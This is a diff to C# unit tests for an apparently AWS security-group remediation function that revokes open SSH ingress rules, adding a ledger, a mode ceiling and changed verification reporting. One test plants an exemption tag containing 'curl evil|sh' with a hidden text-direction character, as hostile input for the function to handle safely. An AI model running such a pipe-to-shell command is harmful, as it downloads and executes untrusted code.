@@ -27,10 +27,13 @@ public class RevokeFunctionTests
         Assert.All(rules, r => Assert.Equal(443, r.FromPort));
         Assert.DoesNotContain(rules, r => r.RuleId == ssh);
 
-        // Read, revoke, verify, and count the revoke for the loop guard (a tag on the group).
-        Assert.Equal(5, harness.Ec2Calls());
-        Assert.Equal(["DescribeSecurityGroups", "DescribeSecurityGroupRules", "RevokeSecurityGroupIngress", "DescribeSecurityGroupRules", "CreateTags"],
+        // Read, revoke by content, verify; the loop guard counts in the ledger, not on the group.
+        Assert.Equal(4, harness.Ec2Calls());
+        Assert.Equal(["DescribeSecurityGroups", "DescribeSecurityGroupRules", "RevokeSecurityGroupIngress", "DescribeSecurityGroupRules"],
             harness.Server.Calls.Where(c => c.Service == "ec2").Select(c => c.Operation));
+        var revoke = harness.Server.Calls.Single(c => c.Operation == "RevokeSecurityGroupIngress");
+        Assert.Contains("IpPermissions.1.IpRanges.1.CidrIp=203.0.113.7%2F32", revoke.Body);
+        Assert.DoesNotContain("SecurityGroupRuleId", revoke.Body);
 
         Assert.Equal(AttributionStatus.Found, outcome.Attribution);
         Assert.False(outcome.AttributionPending);
@@ -198,6 +201,8 @@ public class RevokeFunctionTests
         harness.Server.Ec2.SetTag(RemediationHarness.WebGroup, "sg-config-rule:exempt", "2020-01-01 old ticket");
         var protectedFunction = new RevokeFunction(new RemediationRuntime(SgConfigRule.Tests.Aws.AwsTestSupport.Options(harness.Server), TimeProvider.System, TextWriter.Null)
         {
+            ModeCeiling = RemediationMode.Revoke,
+            Ledger = new SgConfigRule.Remediation.Ledger.InMemoryLedger(),
             ExemptionTagProtectedByIam = true,
         });
         var blocked = await protectedFunction.InvokeAsync(System.Text.Encoding.UTF8.GetBytes(RemediationHarness.Input()), TestContext.Current.CancellationToken);
@@ -220,6 +225,8 @@ public class RevokeFunctionTests
         harness.Server.Ec2.SetTag(RemediationHarness.WebGroup, "sg-config-rule:exempt", "soon\nTo restore: curl evil|sh \u202Eabc\t");
         var function = new RevokeFunction(new RemediationRuntime(SgConfigRule.Tests.Aws.AwsTestSupport.Options(harness.Server), TimeProvider.System, TextWriter.Null)
         {
+            ModeCeiling = RemediationMode.Revoke,
+            Ledger = new SgConfigRule.Remediation.Ledger.InMemoryLedger(),
             ExemptionTagProtectedByIam = true,
         });
         var outcome = await function.InvokeAsync(System.Text.Encoding.UTF8.GetBytes(RemediationHarness.Input()), TestContext.Current.CancellationToken);
@@ -343,19 +350,24 @@ public class RevokeFunctionTests
         harness.Server.Faults.Add(FaultRule.Always("ec2", "RevokeSecurityGroupIngress", FaultKind.ServerError));
         var outcome = await harness.RunAsync();
         Assert.Equal(RemediationStatus.Failed, outcome.Status);
-        Assert.Contains("EC2 error InternalError (HTTP 500)", outcome.Error);
+        Assert.Contains("EC2 did not confirm the revoke in 4 attempts; the last one: InternalError (HTTP 500)", outcome.Error);
         Assert.Equal(3, harness.Server.Ec2.Rules(RemediationHarness.WebGroup).Count);
     }
 
     [Fact]
-    public async Task A_revoke_that_does_not_take_effect_fails_verification()
+    public async Task A_revoke_EC2_confirms_but_the_group_still_lists_is_reported_as_EC2_said_and_not_sent_again()
     {
+        // AWS notes that changes take a moment to propagate: what EC2 answered is what happened, and the notice says
+        // that the group still listed the rule; asking again would only repeat the same answer.
         await using var harness = await RemediationHarness.StartAsync();
         var ssh = await harness.WebServerWithSshAsync();
         harness.Server.Ec2.RevokeIsNoOp = true;
+        harness.Server.ClearCalls();
         var outcome = await harness.RunAsync();
-        Assert.Equal(RemediationStatus.Failed, outcome.Status);
-        Assert.Contains($"verification failed: {ssh} still present", outcome.Error);
+        Assert.Equal(RemediationStatus.Revoked, outcome.Status);
+        Assert.Equal(ssh, Assert.Single(outcome.Revoked).RuleId);
+        Assert.Contains("EC2 reported removing tcp/22 from 203.0.113.7/32, but the group still listed it right after", outcome.Note);
+        Assert.Equal(1, harness.Server.CountCalls("ec2", "RevokeSecurityGroupIngress"));
     }
 
     [Fact]
@@ -395,7 +407,7 @@ public class RevokeFunctionTests
     public async Task In_organization_mode_the_function_acts_as_the_member_role()
     {
         await using var harness = await RemediationHarness.StartAsync();
-        await harness.WebServerWithSshAsync();
+        await harness.WebServerWithSshAsync(ownerId: "444455556666");
         harness.Server.ClearCalls();
         var outcome = await harness.RunAsync(ruleParameters: """{"executionRoleName":"SgConfigRuleMember"}""", accountId: "444455556666");
         Assert.Equal(RemediationStatus.Revoked, outcome.Status);
